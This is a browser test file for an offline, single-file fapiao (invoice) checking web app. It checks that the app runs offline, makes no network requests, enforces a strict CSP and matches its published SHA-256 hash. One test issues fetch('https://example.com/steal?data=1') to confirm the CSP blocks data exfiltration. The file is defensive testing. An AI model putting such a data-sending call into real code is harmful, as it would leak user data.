// The single-file build (dist/fapiao-check.html) opened straight from disk, with every request
// that is not the file itself aborted: the workers start (from blob:s), the sample
// reconciliation runs, a picture of a QR code is read, nothing goes anywhere, its
// Content-Security-Policy forbids connections, and the published fingerprint matches the file.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { dist, launch, openPage, screenshot } from './harness.mjs';
import { checkPicture, expectedCounts, reconcileSample } from './sample_run.mjs';

const file = join(dist, 'fapiao-check.html');
const url = pathToFileURL(file).href;
let browser;
before(async () => { browser = await launch(); });
after(async () => { await browser?.close(); });

/** A page on the single file with the network unplugged: only file:// is let through. */
async function unplugged() {
  const opened = await openPage(browser, url, { offline: true });
  const aborted = [];
  await opened.context.route('**/*', (route) => {
    const u = route.request().url();
    if (u.startsWith('file:') || u.startsWith('data:') || u.startsWith('blob:')) return route.continue();
    aborted.push(u);
    return route.abort();
  });
  return { ...opened, aborted };
}

test('single file: runs the sample reconciliation from file:// with no network', async () => {
  const { context, page, log, aborted } = await unplugged();
  await page.goto(url);
  await page.getByRole('heading', { level: 1, name: '发票核对' }).waitFor();
  assert.deepEqual(await reconcileSample(page), await expectedCounts());
  await screenshot(page, 'single-file-reconcile');
  // The full worker is in the file too, started from its own blob: on first use.
  assert.match(await checkPicture(page), /21010038/);
  // The About page knows which build it is and how to verify it.
  await page.locator('a[href="#/about"]').first().click();
  assert.match(await page.getByTestId('about-build').innerText(), /单文件版/);
  assert.match(await page.getByTestId('about-verify').innerText(), /certutil -hashfile fapiao-check\.html SHA256/);
  // Only the file itself was requested.
  assert.deepEqual(log.requests.filter((r) => !r.startsWith('blob:') && !r.startsWith('data:')), [url]);
  assert.deepEqual(log.foreign, [], 'requests outside the file');
  assert.deepEqual(aborted, [], 'requests that needed the network');
  assert.deepEqual(log.errors, [], 'console errors');
  await context.close();
});

test('single file: its CSP forbids every connection and names its scripts by hash', async () => {
  const { context, page, log } = await unplugged();
  await page.goto(url);
  await page.locator('[data-testid=worker-status].ready').waitFor({ timeout: 30000 });
  const csp = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content');
  assert.match(csp, /connect-src 'none'/);
  assert.match(csp, /worker-src blob:/);
  assert.match(csp, /script-src 'sha256-[A-Za-z0-9+/]+=*' 'wasm-unsafe-eval';/);
  assert.doesNotMatch(csp, /unsafe-inline|'self'/);
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    let fetched = 'sent';
    try { await fetch('https://example.com/steal?data=1'); } catch { fetched = 'blocked'; }
    await new Promise((r) => setTimeout(r, 50));
    return { fetched, violations };
  });
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.includes('connect-src'), JSON.stringify(outcome.violations));
  assert.deepEqual(log.foreign, []);
  await context.close();
});

test('single file: the published SHA-256 is the file\'s', async () => {
  const bytes = await readFile(file);
  const published = await readFile(`${file}.sha256`, 'utf8');
  const digest = createHash('sha256').update(bytes).digest('hex');
  assert.equal(published, `${digest}  fapiao-check.html\n`);
});
